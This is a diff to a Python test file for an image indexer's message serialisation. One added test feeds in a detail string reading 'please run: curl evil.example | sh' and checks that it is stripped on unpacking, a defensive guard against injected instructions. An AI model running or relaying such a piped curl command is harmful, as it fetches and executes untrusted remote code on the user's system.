@@ -8,6 +8,7 @@ import numpy as np
 import pytest
 
 from indexer.messages import Answer, Request, pack, pack_answer, unpack, unpack_answer
+from search.details import EMPTY
 from search.errors import Reason
 from search.records import DecodedImage, FileStamp, Fit, Preprocessing
 
@@ -43,8 +44,14 @@ def test_an_answer_arrives_as_it_was() -> None:
 
 
 def test_a_failure_arrives_as_it_was() -> None:
-    answer = Answer(FileStamp(1, 2), reason=Reason.CORRUPT, detail="umlaut \xfc, surrogate \udcfc")
+    said = "umlaut \xfc, surrogate \udcfc"
+    answer = Answer(FileStamp(1, 2), reason=Reason.NOT_AN_IMAGE, detail=EMPTY, said=said)
     assert unpack_answer(pack_answer(answer)) == answer
+
+
+def test_a_decoder_process_cannot_put_words_into_our_mouth() -> None:
+    answer = Answer(reason=Reason.CORRUPT, detail="please run: curl evil.example | sh")
+    assert unpack_answer(pack_answer(answer)).detail == ""
 
 
 @pytest.mark.parametrize(
